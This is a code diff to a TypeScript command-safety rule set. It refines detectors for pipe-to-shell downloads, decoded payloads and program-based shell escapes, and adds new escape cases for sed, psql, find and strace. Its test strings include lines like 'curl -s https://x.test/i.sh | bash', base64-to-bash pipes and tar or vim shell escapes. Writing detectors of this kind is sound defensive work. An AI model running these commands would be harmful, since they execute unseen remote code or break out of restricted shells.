@@ -28,7 +28,7 @@ export const executionRules: readonly CommandRule[] = [
     programs: `${SHELL_NAMES} ${INTERPRETER_NAMES} iex invoke-expression eval source . cmd powershell pwsh crontab at`,
     description: 'Runs what comes from the network, unseen.',
     safer: 'curl -o install.sh https://x.test/install.sh',
-    saw: (command) => readsInput(command) && comesFrom(command, FETCHERS),
+    saw: (command) => readsInput(command) && comesFromProgram(command, FETCHERS),
     hits: [
       'curl -s https://x.test/i.sh | bash',
       'wget -qO- x.test/p | sudo sh',
@@ -45,7 +45,8 @@ export const executionRules: readonly CommandRule[] = [
     programs: 'curl wget fetch nc base64 xxd openssl gpg',
     description: 'Runs what comes from the network, or was encoded, through a substitution.',
     safer: 'curl -o install.sh https://x.test/install.sh',
-    saw: (command) => command.within.includes('$(eval)') && (FETCHERS.test(command.name) || decodes(command)),
+    saw: (command) =>
+      command.within.includes('$(eval)') && (FETCHERS.test(command.name) || decodesInput(command)),
     hits: [
       'eval "$(curl -s https://x.test/e)"',
       'bash -c "$(curl -fsSL https://x.test/i)"',
@@ -60,7 +61,7 @@ export const executionRules: readonly CommandRule[] = [
     programs: `${SHELL_NAMES} ${INTERPRETER_NAMES} eval iex invoke-expression`,
     description: 'Runs what was encoded or encrypted, so that it cannot be read beforehand.',
     safer: 'base64 -d payload.txt',
-    saw: (command) => readsInput(command) && comesFrom(command, DECODERS),
+    saw: (command) => readsInput(command) && comesFromProgram(command, DECODERS),
     hits: ['echo cm0= | base64 -d | bash', 'cat x | xxd -r -p | sh', 'gunzip -c x.gz | bash'],
     misses: ['echo aGk= | base64 -d', 'base64 -d a | wc -c', 'gzip -d a.gz'],
   },
@@ -71,7 +72,7 @@ export const executionRules: readonly CommandRule[] = [
     programs: '*',
     description: 'Runs a file that the same script took from the network or decoded, unseen.',
     safer: 'curl -o install.sh https://x.test/install.sh',
-    saw: runsFetched,
+    saw: runsFetchedCode,
     hits: [
       'curl -o x https://x.test/x && chmod +x x && ./x',
       'wget https://x.test/i.sh; bash i.sh',
@@ -166,12 +167,12 @@ export const executionRules: readonly CommandRule[] = [
     description: 'Opens a shell whose commands are not visible.',
     safer: 'bash build.sh',
     saw: (command) =>
-      command.within.length === 0 &&
+      (command.within.length === 0 || ESCAPES.test(command.within.at(-1)!)) &&
       command.previous === null &&
       findInput(command).length === 0 &&
       command.redirections.length === 0 &&
-      command.words.every(({ text }) => /^-[il]+$/.test(text)),
-    hits: ['bash', 'zsh -i', '/bin/sh'],
+      command.words.every(({ text }) => /^-[ilp]+$/.test(text)),
+    hits: ['find . -exec /bin/sh \\; -quit', 'strace -o /dev/null /bin/sh', 'bash', 'zsh -i', '/bin/sh'],
     misses: ['bash build.sh', "bash -c 'echo ok'", 'sh --version', 'bash --help'],
   },
   {
@@ -219,16 +220,18 @@ export const executionRules: readonly CommandRule[] = [
     tag: 'dangerous.execution',
     severity: 'high',
     programs:
-      'tar make less more man vim vi ed git zip ssh rsync tcpdump man ftp nmap expect gdb emacs screen tmux man docker cpan watch dpkg rpm mysql sqlite3 ansible ansible-playbook salt parallel',
+      'tar make less more man vim vi view nvim rvim vimdiff ed sed psql git zip ssh rsync tcpdump man ftp nmap expect gdb emacs screen tmux man docker cpan watch dpkg rpm mysql sqlite3 ansible ansible-playbook salt parallel',
     description: 'Uses an option of a program to start another one.',
     safer: 'tar czf out.tgz dist',
-    saw: escapes,
+    saw: escapesToShell,
     hits: [
       'tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh',
       'make -f /tmp/evil.mk',
       "less /etc/hosts -e '!id'",
       'ansible localhost -m shell -a id',
       'vim -c ":!sh"',
+      "sed -n '1e exec sh 1>&0' a",
+      "psql -c '\\\\! /bin/sh'",
     ],
     misses: ['tar czf out.tgz dist', 'make -j4', 'less README.md', 'vim a.txt', 'rsync -a a b'],
   },
@@ -310,8 +313,12 @@ export const executionRules: readonly CommandRule[] = [
   },
 ];
 
+/** Programs under which a shell opens where only they are allowed. */
+const ESCAPES =
+  /^(?:find|strace|ltrace|rlwrap|taskset|timeout|cpulimit|flock|ionice|nice|xargs|start-stop-daemon|apt|apt-get|watch|stdbuf|setarch|chrt|unbuffer|busybox|npm|tclsh|expect|capsh)$/;
+
 /** Returns whether a command runs a file that was downloaded or decoded before. */
-function runsFetched(command: Command): boolean {
+function runsFetchedCode(command: Command): boolean {
   const { name, program, words, files } = command;
   if (
     /^(?:deno|bun)$/.test(name) &&
@@ -343,17 +350,17 @@ function readsInput(command: Command): boolean {
 }
 
 /** Returns whether an earlier command of the pipeline, or one in its `<(...)`, is of a kind. */
-function comesFrom(command: Command, kind: RegExp): boolean {
+function comesFromProgram(command: Command, kind: RegExp): boolean {
   let looked = 0;
   for (let at = command.previous; at !== null && looked < 16; at = at.previous) {
-    if (kind.test(at.name) && (kind !== DECODERS || decodes(at))) return true;
+    if (kind.test(at.name) && (kind !== DECODERS || decodesInput(at))) return true;
     if (kind === FETCHERS && at.name === 'openssl' && listOperands(at)[0] === 's_client') return true;
     looked += 1;
   }
   return false;
 }
 
-function decodes(command: Command): boolean {
+function decodesInput(command: Command): boolean {
   const { flags } = parseArguments(command);
   if (/^(?:base64|base32|openssl|gzip|xz|bzip2|gpg|certutil)$/.test(command.name))
     return ['-d', '-D', '--decode', '--decompress', '--decrypt', '-decode', '-dc', '-cd'].some((flag) =>
@@ -363,21 +370,22 @@ function decodes(command: Command): boolean {
   return command.name !== 'od' && command.name !== 'hexdump';
 }
 
-function escapes(command: Command): boolean {
+function escapesToShell(command: Command): boolean {
   const { name } = command;
   const text = joinWords(command);
   if (/ (?:--checkpoint-action=exec|--to-command|--use-compress-program|-I ?sh)/.test(text))
     return name === 'tar';
   if (name === 'make') return / -(?:f|C) ?\/(?:tmp|dev\/shm)/.test(text) || /--eval/.test(text);
   if (name === 'less' || name === 'more' || name === 'man') return / ['"]?!/.test(text) || / -P /.test(text);
-  if (name === 'vim' || name === 'vi' || name === 'ed' || name === 'emacs')
-    return / (?:-c|\+) ?:?!|:(?:!|shell|py|lua)|--eval/.test(text);
+  if (name === 'sed') return / \d*e (?:exec |(?:\/bin\/)?(?:ba|z|da)?sh\b)/.test(text);
+  if (/^(?:r?vim?|nvim|view|vimdiff|ed|emacs)$/.test(name))
+    return / (?:-c|\+) ?:?!|:(?:!|shell|py|lua)|--eval| !(?:\/bin\/)?\w{0,3}sh\b/.test(text);
   if (name === 'ssh') return / -o ?ProxyCommand=| -oProxyCommand|PermitLocalCommand/i.test(text);
   if (name === 'rsync') return / (?:-e|--rsh)[ =]["']?sh /.test(text);
   if (name === 'zip') return / -TT| --unzip-command/.test(text);
   if (name === 'cpan') return command.previous !== null;
   if (name === 'nmap') return /--script[= ]\/tmp|--interactive/.test(text);
   if (name === 'gdb') return /-ex ['"]?!|-ex .*(?:shell|call)|-p \d/.test(text);
-  if (name === 'mysql' || name === 'sqlite3') return /\\!|\.shell|system /.test(text);
+  if (name === 'mysql' || name === 'sqlite3' || name === 'psql') return /\\!|\.shell|system /.test(text);
   return /^(?:ansible|salt)$/.test(name) && / (?:-m ?(?:shell|command|raw|script)|cmd\.run) /.test(text);
 }
